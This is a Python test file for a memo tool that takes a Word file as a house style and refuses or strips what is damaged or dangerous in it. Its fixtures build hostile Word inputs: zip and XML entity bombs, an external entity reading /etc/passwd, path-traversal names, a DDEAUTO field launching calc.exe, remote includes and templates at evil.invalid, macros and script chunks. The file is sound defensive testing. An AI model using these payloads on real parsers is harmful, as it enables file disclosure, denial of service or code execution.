"""A house's Word file is untrusted: what is damaged or dangerous is refused with a finding, and what acts or tells of its makers stays behind."""

import io
import re
import socket
import subprocess
import zipfile
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import houses
import pytest
from docx import Document as WordDocument
from PIL import Image
from tools import needs_package
from writers.docx.test_standards import findings as audited

from memos.contrast import contrast
from memos.document import Document, Heading, Paragraph, Run
from memos.errors import FileError, UsageError
from memos.findings import Finding
from memos.house import House, Text
from memos.houses import KNOWN
from memos.read.word import LIMIT, house_of
from memos.styles import read_style, standard, style_of
from memos.writers.docx import write_docx
from memos.writers.pdf import lay_out, write_pdf

DOCUMENT = Document("Memo", "en", (Heading(1, (Run("Purpose"),)), Paragraph((Run("Text."),))), banner="RESTRICTED")


@pytest.fixture(autouse=True)
def _nothing_is_fetched_or_run(monkeypatch: pytest.MonkeyPatch) -> None:
    """Whoever opens a connection or starts a program fails."""

    def refused(*_: object, **__: object) -> None:
        pytest.fail("a house file made Memos fetch or run something")

    monkeypatch.setattr(socket.socket, "connect", refused)
    monkeypatch.setattr(subprocess, "Popen", refused)


def codes(data: bytes) -> list[str]:
    return [finding.code for finding in house_of(data, KNOWN)[1]]


def taken(data: bytes) -> tuple[House, tuple[Finding, ...]]:
    house, findings = house_of(data, KNOWN)
    assert house is not None, findings
    return house, findings


def paper(data: bytes, folder: Path) -> dict[str, bytes]:
    """The parts of a Word paper in the house's style."""
    file = folder / "house.docx"
    file.write_bytes(data)
    made = write_docx(DOCUMENT, style_of(str(file)))
    with zipfile.ZipFile(io.BytesIO(made)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def bombed() -> bytes:
    return houses.word_file({f"customXml/{number}.xml": b" " * 15_000_000 for number in range(7)})


def encrypted() -> bytes:
    data = bytearray(houses.word_file())
    for signature, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = data.find(signature)
        while place >= 0:
            data[place + at] |= 1
            place = data.find(signature, place + 4)
    return bytes(data)


def doubled() -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        for name, data in (*houses.parts().items(), ("word/document.xm_", b"<evil/>")):
            archive.writestr(name, data)
    return made.getvalue().replace(b"document.xm_", b"document.xml")


ENTITIES = '<!DOCTYPE w [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
REFUSED: dict[str, tuple[str, Callable[[], bytes]]] = {
    "empty": ("TPL201", lambda: b""),
    "PDF": ("TPL201", lambda: b"%PDF-1.7\n"),
    "RTF": ("TPL201", lambda: b"{\\rtf1 x}"),
    "text": ("TPL201", lambda: b"kind: style\n"),
    "Word 97": ("TPL201", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600),
    "OpenDocument": ("TPL201", lambda: houses.packed({"mimetype": b"application/vnd.oasis.opendocument.text"})),
    "spreadsheet": (
        "TPL201",
        lambda: houses.word_file(
            {"[Content_Types].xml": houses.parts()["[Content_Types].xml"].replace(b"wordprocessingml", b"spreadsheetml")}
        ),
    ),
    "encrypted archive": ("TPL202", encrypted),
    "encrypted file": (
        "TPL202",
        lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600 + "EncryptedPackage".encode("utf-16-le"),
    ),
    "truncated": ("TPL203", lambda: houses.word_file()[:-200]),
    "flipped": ("TPL203", lambda: houses.word_file().replace(b"\x00w:", b"\x01w:", 1)[:900] + b"\0" * 900),
    "part twice": ("TPL203", doubled),
    "part twice but for capitals": ("TPL203", lambda: houses.word_file({"WORD/document.xml": "<x/>"})),
    "dangling relationship": (
        "TPL203",
        lambda: houses.word_file(
            {
                "word/_rels/document.xml.rels": houses.relationships(
                    ("rId1", "styles", "styles.xml"), ("rId2", "image", "media/none.png")
                )
            }
        ),
    ),
    "no document": ("TPL203", lambda: houses.word_file({"word/document.xml": None})),
    "no relationships": ("TPL203", lambda: houses.word_file({"_rels/.rels": None})),
    "no styles": ("TPL203", lambda: houses.word_file({"word/_rels/document.xml.rels": None})),
    "empty styles": ("TPL203", lambda: houses.word_file({"word/styles.xml": f"<w:styles {houses.W}/>"})),
    "no XML": ("TPL203", lambda: houses.word_file({"word/document.xml": "<w:document>"})),
    "archive bomb": ("TPL204", bombed),
    "part bomb": ("TPL204", lambda: houses.word_file({"word/document.xml": b" " * (LIMIT + 1)})),
    "many parts": ("TPL204", lambda: houses.word_file({f"x/{number}": b"" for number in range(1001)})),
    "large file": ("TPL204", lambda: houses.word_file() + b"\0" * LIMIT),
    "many paragraphs in a header": ("TPL204", lambda: houses.with_header("<w:p/>" * 3001)),
    "many pieces in a header": ("TPL204", lambda: houses.with_header(f"<w:p>{'<w:r><w:t>x</w:t></w:r>' * 3001}</w:p>")),
    "wide table in a header": (
        "TPL204",
        lambda: houses.with_header(f"<w:tbl><w:tblGrid>{'<w:gridCol/>' * 64}</w:tblGrid><w:tr><w:tc><w:p/></w:tc></w:tr></w:tbl>"),
    ),
    "wide cell in a header": (
        "TPL204",
        lambda: houses.with_header(f'<w:tbl><w:tr>{"<w:tc><w:p/></w:tc>" * 999}</w:tr></w:tbl>'),
    ),
    "deep markup": (
        "TPL204",
        lambda: houses.word_file({"word/document.xml": houses.body(inner="<w:sdt>" * 9000 + "</w:sdt>" * 9000)}),
    ),
    "entity bomb": ("TPL205", lambda: houses.word_file({"word/document.xml": ENTITIES + houses.body(inner="&b;")})),
    "entity bomb in UTF-16": (
        "TPL205",
        lambda: houses.word_file({"word/styles.xml": ('<?xml version="1.0" encoding="UTF-16"?>' + ENTITIES + houses.STYLES).encode("utf-16")}),
    ),
    "external entity": (
        "TPL205",
        lambda: houses.word_file({"word/_rels/document.xml.rels": '<!DOCTYPE x SYSTEM "file:///etc/passwd"><x/>'}),
    ),
    "climbing name": ("TPL206", lambda: houses.word_file({"../evil.xml": "<x/>"})),
    "absolute name": ("TPL206", lambda: houses.word_file({"/etc/passwd": "x"})),
    "backslash name": ("TPL206", lambda: houses.word_file({"word\\..\\evil": "x"})),
    "climbing relationship": (
        "TPL206",
        lambda: houses.word_file(
            {"word/_rels/document.xml.rels": houses.relationships(("rId1", "styles", "../../../etc/passwd"))}
        ),
    ),
}  # fmt: skip


@pytest.mark.parametrize("name", REFUSED)
def test_a_damaged_or_dangerous_file_is_refused(name: str, tmp_path: Path) -> None:
    code, make = REFUSED[name]
    data = make()
    house, findings = house_of(data, KNOWN)
    assert house is None
    assert [finding.code for finding in findings] == [code]
    file = tmp_path / "house.docx"
    file.write_bytes(data)
    with pytest.raises(FileError, match=code):
        style_of(str(file))


def test_a_right_file_is_taken_and_nothing_is_said_of_its_making() -> None:
    house, findings = taken(houses.word_file())
    assert findings == ()
    assert [style.name for style in house.styles] == ["normal", "heading 1", "header"]


def test_a_template_is_taken_as_a_document_is() -> None:
    types = houses.parts()["[Content_Types].xml"].replace(b"document.main+xml", b"template.main+xml")
    taken(houses.word_file({"[Content_Types].xml": types}))


def field(instruction: str) -> str:
    return (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> '
        f'{instruction} </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>shown</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


ACTIVE = {
    "DDE": houses.with_header(field("DDEAUTO c:\\\\windows\\\\calc.exe x")),
    "INCLUDETEXT": houses.with_header(field('INCLUDETEXT "http://evil.invalid/x"')),
    "INCLUDEPICTURE in one element": houses.with_header(
        '<w:p><w:fldSimple w:instr=" INCLUDEPICTURE http://evil.invalid/x "><w:r><w:t>shown</w:t></w:r></w:fldSimple></w:p>'
    ),
    "field split over runs": houses.with_header(
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO x</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    ),
    "external picture": houses.with_header(
        f"<w:p>{houses.drawing('rId9')}</w:p>",
        rels=houses.relationships(external=(("rId9", "image", "http://evil.invalid/x.png"),)),
    ),
    "remote template": houses.word_file(
        {
            "word/settings.xml": f'<w:settings {houses.W}><w:attachedTemplate r:id="rId1"/></w:settings>',
            "word/_rels/settings.xml.rels": houses.relationships(
                external=(("rId1", "attachedTemplate", "http://evil.invalid/t.dotm"),)
            ),
        }
    ),
    "macros": houses.word_file(
        {
            "word/vbaProject.bin": b"macro",
            "word/_rels/document.xml.rels": houses.relationships(
                ("rId1", "styles", "styles.xml"), ("rId2", "vbaProject", "vbaProject.bin")
            ),
        }
    ),
    "another document": houses.word_file(
        {
            "word/chunk.html": "<script>",
            "word/_rels/document.xml.rels": houses.relationships(
                ("rId1", "styles", "styles.xml"), ("rId2", "aFChunk", "chunk.html")
            ),
        }
    ),
    "object": houses.with_header('<w:p><w:r><w:object/></w:r></w:p>'),
}  # fmt: skip


ACTING = (
    b"evil", b"ddeauto", b"calc.exe", b"includetext", b"includepicture", b">shown<", b"vbaproject", b"<script", b"attachedtemplate", b"\"external\"", b"w:object",
)  # fmt: skip


@pytest.mark.parametrize("name", ACTIVE)
def test_what_acts_or_lies_elsewhere_does_not_reach_a_paper(name: str, tmp_path: Path) -> None:
    assert codes(ACTIVE[name]) == ["TPL210"]
    parts = paper(ACTIVE[name], tmp_path)
    whole = b"".join(parts.values()).lower()
    for trace in ACTING:
        assert trace not in whole, trace
    assert b'<w:t xml:space="preserve">restricted</w:t>' in whole


def test_a_field_of_a_time_or_a_name_is_left_out_and_the_page_number_stays() -> None:
    house, findings = taken(
        houses.with_header(field("DATE \\@ d") + field("AUTHOR") + field("PAGE") + field("NUMPAGES"))
    )
    assert [finding.code for finding in findings] == ["TPL212"]
    pieces = [piece for paragraph in house.headers["default"].paragraphs() for piece in paragraph.pieces]
    assert [piece.field for piece in pieces if isinstance(piece, Text)] == ["page", "pages"]


def test_traces_of_the_makers_do_not_reach_a_paper(tmp_path: Path) -> None:
    header = (
        '<w:p w:rsidR="00AB12CD"><w:ins w:author="Jane Roe" w:date="2026-01-01T00:00:00Z"><w:r><w:t>Ministry</w:t></w:r></w:ins>'
        '<w:del w:author="Jane Roe"><w:r><w:delText>Old ministry</w:delText></w:r></w:del><w:r><w:rPr><w:vanish/></w:rPr><w:t>unseen</w:t></w:r></w:p>'
    )
    data = houses.with_header(
        header,
        **{
            "_rels/.rels": houses.relationships(
                ("rId1", "officeDocument", "word/document.xml"),
                ("rId2", "custom-properties", "docProps/custom.xml"),
                ("rId3", "extended-properties", "docProps/app.xml"),
                ("rId4", "thumbnail", "docProps/thumbnail.jpeg"),
            ),
            "docProps/custom.xml": "<x>Case 17</x>",
            "docProps/thumbnail.jpeg": b"JPEG",
            "docProps/app.xml": '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/extended-properties"><Company>ACME</Company></Properties>',
        },
    )
    assert sorted(codes(data)) == ["TPL211", "TPL212"]
    parts = paper(data, tmp_path)
    whole = b"".join(parts.values())
    assert b"Ministry" in whole
    for trace in (b"Jane", b"Old ministry", b"unseen", b"rsid", b"Case 17", b"ACME", b"JPEG", b"<w:ins ", b"<w:del"):
        assert trace not in whole, trace


HIDING = {
    "run": "<w:r><w:rPr><w:vanish/></w:rPr><w:t>unseen</w:t></w:r>",
    "character style": '<w:r><w:rPr><w:rStyle w:val="Hid"/></w:rPr><w:t>unseen</w:t></w:r>',
    "paragraph style": '</w:p><w:p><w:pPr><w:pStyle w:val="HidP"/></w:pPr><w:r><w:t>unseen</w:t></w:r>',
    "style that builds on one": '</w:p><w:p><w:pPr><w:pStyle w:val="HidP2"/></w:pPr><w:r><w:t>unseen</w:t></w:r>',
    "number": '<w:fldSimple w:instr=" PAGE "><w:r><w:rPr><w:rStyle w:val="Hid"/></w:rPr><w:t>unseen</w:t></w:r></w:fldSimple>',
    "field in runs": '<w:r><w:rPr><w:vanish/></w:rPr><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>PAGE</w:instrText></w:r>'
    '<w:r><w:fldChar w:fldCharType="separate"/><w:t>unseen</w:t></w:r><w:r><w:rPr><w:vanish/></w:rPr><w:fldChar w:fldCharType="end"/></w:r>',
}
HIDING_STYLES = "".join(
    f'<w:style w:type="{kind}" w:customStyle="1" w:styleId="{name}"><w:name w:val="{name}"/>{more}</w:style>'
    for kind, name, more in (
        ("character", "Hid", "<w:rPr><w:vanish/></w:rPr>"),
        ("paragraph", "HidP", '<w:link w:val="Hid"/><w:rPr><w:vanish/></w:rPr>'),
        ("paragraph", "HidP2", '<w:basedOn w:val="HidP"/>'),
        ("paragraph", "Seen", '<w:basedOn w:val="HidP"/><w:link w:val="Hid"/><w:rPr><w:vanish w:val="0"/></w:rPr>'),
    )
)


@pytest.mark.parametrize("name", HIDING)
def test_hidden_text_stays_behind_and_so_do_styles_that_hide(name: str, tmp_path: Path) -> None:
    header = f'<w:p><w:r><w:t>Ministry</w:t></w:r>{HIDING[name]}</w:p><w:p><w:pPr><w:pStyle w:val="Seen"/></w:pPr><w:r><w:t>shown</w:t></w:r></w:p>'
    styles = houses.STYLES.replace("</w:styles>", f"{HIDING_STYLES}</w:styles>")
    data = houses.with_header(header, **{"word/styles.xml": styles})
    house, said = taken(data)
    assert [finding.message for finding in said] == ["not taken from the house file: hidden text"]
    texts = [piece.text for found in house.headers["default"].paragraphs() for piece in found.pieces if isinstance(piece, Text)]  # fmt: skip
    assert texts == ["Ministry", "shown"]
    parts = paper(data, tmp_path)
    assert b"unseen" not in b"".join(parts.values())
    written = parts["word/styles.xml"].decode()
    assert 'w:styleId="HidP2"' not in written
    assert 'w:styleId="Hid"' not in written
    assert 'w:styleId="Seen"' in written


def test_a_heading_that_hides_its_text_is_not_taken() -> None:
    house, said = taken(houses.styled("heading 1", "", "<w:vanish/>"))
    assert house.style("heading 1") is None
    assert [finding.message for finding in said] == [
        "not taken from the house file: styles that hide their text (heading 1)"
    ]


def test_a_picture_is_encoded_anew_and_its_name_and_text_stay_behind(tmp_path: Path) -> None:
    picture = houses.png() + b"TRAILING SECRET"
    data = houses.with_header(
        f"<w:p>{houses.drawing('rId1')}</w:p>",
        **{"rels": houses.relationships(("rId1", "image", "media/logo.png")), "word/media/logo.png": picture},
    )
    parts = paper(data, tmp_path)
    shown = [name for name in parts if "media" in name]
    assert shown == ["word/media/house1.png"]
    whole = b"".join(parts.values())
    for trace in (b"SECRET", b"jane", b"secret", b"logo"):
        assert trace not in whole


def test_styles_that_build_on_themselves_end(tmp_path: Path) -> None:
    styles = houses.STYLES.replace('<w:basedOn w:val="a"/>', '<w:basedOn w:val="Kopfzeile"/>', 1).replace(
        '<w:name w:val="header"/><w:basedOn w:val="a"/>', '<w:name w:val="header"/><w:basedOn w:val="berschrift1"/>'
    )
    parts = paper(houses.word_file({"word/styles.xml": styles}), tmp_path)
    written = parts["word/styles.xml"].decode()
    based = dict(re.findall(r'w:styleId="(\w+)"><w:name [^>]*/><w:basedOn w:val="(\w+)"', written))
    for start in based:
        seen = []
        at: str | None = start
        while at:
            assert at not in seen
            seen.append(at)
            at = based.get(at)


def test_python_docx_s_own_template_gives_a_style(tmp_path: Path) -> None:
    made = io.BytesIO()
    WordDocument().save(made)
    assert set(codes(made.getvalue())) <= {"TPL211", "TPL216"}
    assert b"<w:titlePg/>" not in paper(made.getvalue(), tmp_path)["word/document.xml"]


def test_measures_that_papers_cannot_have_are_brought_to_the_nearest(tmp_path: Path) -> None:
    text = houses.body().replace('w:left="1701"', 'w:left="99999"').replace('w:top="1701"', 'w:top="10"')
    file = tmp_path / "house.docx"
    file.write_bytes(houses.word_file({"word/document.xml": text}))
    style, findings = read_style(str(file))
    assert style is not None
    assert "TPL215" in {finding.code for finding in findings}
    assert write_pdf(DOCUMENT, style).startswith(b"%PDF")


MISFITS = {
    "alignment": ('<w:jc w:val="banana"/>', "", 'jc val="banana"'),
    "colour": ("", '<w:color w:val="rgb(1,2,3)"/>', 'color val="rgb(1,2,3)"'),
    "size": ("", '<w:sz w:val="zz"/>', 'sz val="zz"'),
    "no number at all": ("", '<w:sz w:val="nan"/>', 'sz val="nan"'),
    "underline": ("", "<w:u w:val='\"/>&lt;x'/>", "u val"),
    "switch": ("", '<w:b w:val="maybe"/>', 'b val="maybe"'),
    "distance": ('<w:spacing w:line="99999999"/>', "", 'spacing line="99999999"'),
    "border": ('<w:pBdr><w:top w:val="fence" w:sz="4"/></w:pBdr>', "", 'top val="fence"'),
    "tab": ('<w:tabs><w:tab w:val="left" w:pos="here"/></w:tabs>', "", 'tab pos="here"'),
}


@needs_package("openxml_audit", "openxml-audit")
@pytest.mark.parametrize("name", MISFITS)
def test_values_that_word_does_not_know_are_left_out_of_styles_and_headers(name: str, tmp_path: Path) -> None:
    paragraph, letters, said = MISFITS[name]
    header = f"<w:p><w:pPr>{paragraph}</w:pPr><w:r><w:rPr>{letters}</w:rPr><w:t>Ministry</w:t></w:r></w:p>"
    for number, data in enumerate((houses.styled("heading 1", paragraph, letters), houses.with_header(header))):
        found = {finding.code: finding.message for finding in taken(data)[1]}
        assert said in found["TPL218"]
        assert ("heading 1", "headers and footers")[number] in found["TPL218"]
        file = tmp_path / "house.docx"
        file.write_bytes(data)
        assert audited(write_docx(DOCUMENT, style_of(str(file))), tmp_path / "paper.docx") == []


@needs_package("openxml_audit", "openxml-audit")
def test_measures_with_units_and_decimals_are_taken_as_whole_numbers(tmp_path: Path) -> None:
    data = houses.styled("heading 1", '<w:spacing w:after="6pt"/><w:ind w:left="283.46456"/>', '<w:sz w:val="11pt"/>')
    assert taken(data)[1] == ()
    written = paper(data, tmp_path)["word/styles.xml"].decode()
    (heading,) = re.findall(r'<w:style [^>]*w:styleId="Heading1">.*?</w:style>', written)
    assert '<w:spacing w:after="120"/><w:ind w:left="283"/>' in heading
    assert '<w:sz w:val="22"/>' in heading
    assert audited(write_docx(DOCUMENT, style_of(str(tmp_path / "house.docx"))), tmp_path / "paper.docx") == []


def test_sizes_that_papers_cannot_have_are_brought_to_the_nearest_in_both(tmp_path: Path) -> None:
    data = houses.styled("heading 1", '<w:spacing w:before="6000" w:after="-40"/>', '<w:sz w:val="300"/>')
    said = [finding.message for finding in taken(data)[1] if finding.code == "TPL215"]
    assert [message.partition("; ")[0] for message in said] == [
        "the house file's space above is 300 pt in heading 1",
        "the house file's space below is -2 pt in heading 1",
        "the house file's size of letters is 150 pt in heading 1",
    ]
    written = paper(data, tmp_path)["word/styles.xml"].decode()
    (heading,) = re.findall(r'<w:style [^>]*w:styleId="Heading1">.*?</w:style>', written)
    assert '<w:spacing w:before="4000" w:after="0"/>' in heading
    assert '<w:sz w:val="144"/><w:szCs w:val="144"/>' in heading
    look = style_of(str(tmp_path / "house.docx")).text.heading_1
    assert (look.size, look.before, look.after) == (72, 200, 0)


GREEN = '<w:shd w:val="clear" w:color="auto" w:fill="005030"/>'
WHITE_LETTERS = '<w:b/><w:color w:val="FFFFFF"/><w:sz w:val="30"/>'
PALE: dict[str, tuple[bytes, str, str]] = {
    "headings on a band": (houses.styled("heading 1", GREEN, WHITE_LETTERS), "Heading1", "FFFFFF"),
    "headings": (houses.styled("heading 1", "", WHITE_LETTERS), "Heading1", "737373"),
    "all text": (houses.styled("Normal", "", '<w:color w:val="F0F0F0"/>'), "BodyText", "727272"),
    "heads of tables on a band": (houses.styled("Table Head", GREEN, WHITE_LETTERS), "TableHead", "FFFFFF"),
    "heads of tables": (houses.styled("Table Head", "", WHITE_LETTERS), "TableHead", "666666"),
    "running foot": (houses.styled("footer", "", '<w:color w:val="C0C0C0"/>'), "Footer", "C0C0C0"),
    "dark on dark": (
        houses.styled("title", GREEN.replace("005030", "202020"), '<w:color w:val="101010"/>'),
        "Title",
        "888888",
    ),
}  # fmt: skip


@pytest.mark.parametrize("name", PALE)
def test_letters_can_be_read_on_what_is_behind_them_in_both(name: str, tmp_path: Path) -> None:
    data, identifier, colour = PALE[name]
    file = tmp_path / "house.docx"
    file.write_bytes(data)
    style, said = read_style(str(file))
    assert style is not None
    for role, text in style.text:
        ground = text.background or (style.table.head_background if role == "table_head" else "#ffffff")
        assert contrast(text.colour, ground) >= (3 if text.size >= 18 or (text.bold and text.size >= 14) else 4.5), role
    written = paper(data, tmp_path)
    (found,) = re.findall(rf'<w:style [^>]*w:styleId="{identifier}">.*?</w:style>', written["word/styles.xml"].decode())
    assert f'<w:color w:val="{colour}"/>' in found
    assert ("TPL219" in {finding.code for finding in said}) is (name != "heads of tables on a band")


def test_a_pale_running_foot_is_darker_and_the_house_s_own_footer_stays(tmp_path: Path) -> None:
    data = PALE["running foot"][0]
    file = tmp_path / "house.docx"
    file.write_bytes(data)
    style = style_of(str(file))
    made = write_docx(replace(DOCUMENT, running_foot="Subject", page_label="{page}"), style)
    with zipfile.ZipFile(io.BytesIO(made)) as archive:
        foot = archive.read("word/footer1.xml").decode()
    assert foot.count(f'<w:rPr><w:color w:val="{style.text.footer.colour[1:].upper()}"/></w:rPr>') >= 2


def test_a_house_s_own_colours_stay_where_they_can_be_read() -> None:
    assert contrast("#7b1fa2", "#ffffff") > 4.5
    assert "TPL219" not in codes(houses.word_file())
    assert "TPL219" not in codes(houses.LETTERHEAD.read_bytes())


def test_a_font_that_pdfs_have_not_is_said_to_move_the_pages_of_contents(tmp_path: Path) -> None:
    file = tmp_path / "house.docx"
    file.write_bytes(houses.word_file())
    (said,) = (finding.message for finding in read_style(str(file))[1] if finding.code == "TPL213")
    assert "font Calibri is drawn in Noto Sans" in said
    assert "tables of contents" in said


def test_a_style_file_names_a_house_file_beside_it_only(tmp_path: Path) -> None:
    (tmp_path / "in").mkdir()
    (tmp_path / "house.docx").write_bytes(houses.word_file())
    (tmp_path / "in" / "style.yaml").write_text("kind: style\nname: x\nhouse: ../house.docx\n")
    with pytest.raises(UsageError, match="not in the folder"):
        style_of(str(tmp_path / "in" / "style.yaml"))


def test_a_house_cannot_hide_the_marking(tmp_path: Path) -> None:
    hiding = '<w:vanish/><w:color w:val="FFFFFF"/><w:w w:val="1"/><w:position w:val="2000"/><w:highlight w:val="black"/><w:sz w:val="2"/>'
    styles = houses.STYLES.replace('<w:sz w:val="22"/>', hiding, 1)
    styles = styles.replace('<w:name w:val="Normal"/>', f'<w:name w:val="Normal"/><w:rPr>{hiding}</w:rPr>')
    own = f'<w:style w:type="paragraph" w:customStyle="1" w:styleId="Banner"><w:name w:val="Banner"/><w:rPr>{hiding}</w:rPr></w:style></w:styles>'
    file = tmp_path / "house.docx"
    file.write_bytes(houses.word_file({"word/styles.xml": styles.replace("</w:styles>", own)}))
    style = style_of(str(file))
    assert style.text.banner == standard().text.banner
    assert style.text.copy_number == standard().text.copy_number
    written = paper(file.read_bytes(), tmp_path)["word/styles.xml"].decode()
    (banner,) = re.findall(r'<w:style [^>]*w:styleId="Banner">.*?</w:style>', written)
    assert "basedOn" not in banner
    assert 'w:val="9C0006"' in banner
    ground = written[: written.index("</w:docDefaults>")]
    for name in ("w:color", "w:vanish", "<w:w ", "w:position", "w:highlight"):
        assert name not in ground


def test_what_is_cut_off_a_picture_stays_behind() -> None:
    made = io.BytesIO()
    picture = Image.new("RGB", (100, 50), "white")
    picture.paste("red", (0, 0, 50, 50))
    picture.save(made, "PNG")
    cut = houses.drawing("rId1").replace("</pic:blipFill>", '<a:srcRect l="50000"/></pic:blipFill>')
    data = houses.with_header(
        f"<w:p>{cut}</w:p>",
        **{"rels": houses.relationships(("rId1", "image", "media/a.png")), "word/media/a.png": made.getvalue()},
    )
    (shown,) = taken(data)[0].pictures
    assert (shown.width, shown.height) == (50, 50)
    with Image.open(io.BytesIO(shown.data)) as opened:
        assert opened.convert("RGB").getpixel((0, 0)) == (255, 255, 255)


def test_a_character_that_no_font_has_keeps_the_house_from_being_taken(tmp_path: Path) -> None:
    file = tmp_path / "house.docx"
    file.write_bytes(houses.with_header("<w:p><w:r><w:t>Ministry ♞</w:t></w:r></w:p>"))
    style, findings = read_style(str(file))
    assert style is None
    assert [(finding.code, finding.severity) for finding in findings if finding.severity == "error"] == [
        ("REN101", "error")
    ]


def test_space_between_a_picture_and_its_text_is_kept(tmp_path: Path) -> None:
    data = houses.with_header(
        f'<w:p>{houses.drawing("rId1")}<w:r><w:t xml:space="preserve">  Ministry </w:t></w:r><w:r><w:rPr><w:b/></w:rPr><w:t>of Water</w:t></w:r></w:p>',
        **{"rels": houses.relationships(("rId1", "image", "media/a.png")), "word/media/a.png": houses.png()},
    )
    file = tmp_path / "house.docx"
    file.write_bytes(data)
    page = lay_out(DOCUMENT, style_of(str(file))).pages[0]
    seal = page.ornament[0]
    ministry, water = (
        next(found for found in page.header if "".join(span.text for span in found.line.spans).strip() == text)
        for text in ("Ministry", "of Water")
    )
    space = ministry.line.spans[0].look.space
    assert ministry.x == pytest.approx(seal.x + seal.width + 2 * space)
    assert water.x == pytest.approx(ministry.x + ministry.line.width + space)


@pytest.mark.parametrize("text", ["وزارة الخارجية", "משרד החוץ", "Ministry", ""])
@pytest.mark.parametrize("of_style", [False, True])
def test_a_header_from_right_to_left_stands_at_the_right(text: str, of_style: bool, tmp_path: Path) -> None:
    bidi = "" if of_style else "<w:pPr><w:bidi/></w:pPr>"
    given = f"<w:p>{bidi}<w:r><w:rPr><w:rtl/></w:rPr><w:t>{text}</w:t></w:r></w:p>"
    if of_style:
        given = given.replace("<w:p>", '<w:p><w:pPr><w:pStyle w:val="Kopfzeile"/></w:pPr>')
        styles = houses.STYLES.replace(
            '<w:name w:val="header"/><w:basedOn w:val="a"/>',
            '<w:name w:val="header"/><w:basedOn w:val="a"/><w:pPr><w:bidi/></w:pPr>',
        )
        data = houses.with_header(given, **{"word/styles.xml": styles})
    else:
        data = houses.with_header(given)
    file = tmp_path / "house.docx"
    file.write_bytes(data)
    page = lay_out(DOCUMENT, style_of(str(file))).pages[0]
    if text:
        letters = [sorted(word) for word in (text, *text.split())]
        said = [
            found for found in page.header if sorted("".join(span.text for span in found.line.spans).strip()) in letters
        ]
        assert said
        assert all(found.x > 300 for found in said)
        assert write_pdf(DOCUMENT, style_of(str(file))).startswith(b"%PDF")


def test_a_header_that_leaves_no_room_for_the_text_keeps_the_house_from_being_taken(tmp_path: Path) -> None:
    file = tmp_path / "house.docx"
    file.write_bytes(houses.with_header("<w:p><w:r><w:t>Line</w:t></w:r></w:p>" * 60))
    style, findings = read_style(str(file))
    assert style is None
    assert [finding.code for finding in findings if finding.severity == "error"] == ["TPL217"]


def said(data: bytes) -> str:
    """All that is said of a file, in one text."""
    return " ".join(f"{finding.code} {finding.message}" for finding in taken(data)[1])


WITH_HIDDEN = houses.STYLES.replace(
    "</w:styles>",
    '<w:style w:type="character" w:styleId="H"><w:name w:val="H"/><w:rPr><w:vanish/></w:rPr></w:style>'
    '<w:style w:type="character" w:styleId="H2"><w:name w:val="H2"/><w:basedOn w:val="H"/></w:style>'
    '<w:style w:type="paragraph" w:styleId="HP"><w:name w:val="HP"/><w:rPr><w:vanish/></w:rPr></w:style></w:styles>',
)


def test_text_that_a_style_hides_stays_behind(tmp_path: Path) -> None:
    hidden = "".join(
        f'<w:r><w:rPr><w:rStyle w:val="{style}"/></w:rPr><w:t>file 4711</w:t></w:r>' for style in ("H", "H2")
    )
    data = houses.with_header(
        f'<w:p><w:r><w:t>Ministry</w:t></w:r>{hidden}<w:r><w:rPr><w:rStyle w:val="H"/><w:vanish w:val="0"/></w:rPr><w:t> of Rivers</w:t></w:r></w:p>'
        '<w:p><w:pPr><w:pStyle w:val="HP"/></w:pPr><w:r><w:t>file 4712</w:t></w:r></w:p>',
        **{"word/styles.xml": WITH_HIDDEN},
    )
    house, _ = taken(data)
    assert "TPL212 not taken from the house file: hidden text" in said(data)
    assert len(house.headers["default"].blocks) == 1
    header = b"".join(content for name, content in paper(data, tmp_path).items() if name.startswith("word/header"))
    assert b"Ministry" in header
    assert b" of Rivers" in header
    assert b"471" not in header


def test_pictures_of_a_file_are_bounded_together(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("memos.read.word.drawings._PIXELS", 150)
    rels = houses.relationships(*((f"rId{number}", "image", f"media/{number}.png") for number in range(4)))
    media = {f"word/media/{number}.png": houses.png((number, 0, 0)) for number in range(4)}
    runs = "".join(houses.drawing(f"rId{number}") for number in range(4))
    data = houses.with_header(f"<w:p>{runs}</w:p>", rels=rels, **media)
    assert len(taken(data)[0].pictures) == 2
    assert "pictures of more than" in said(data)
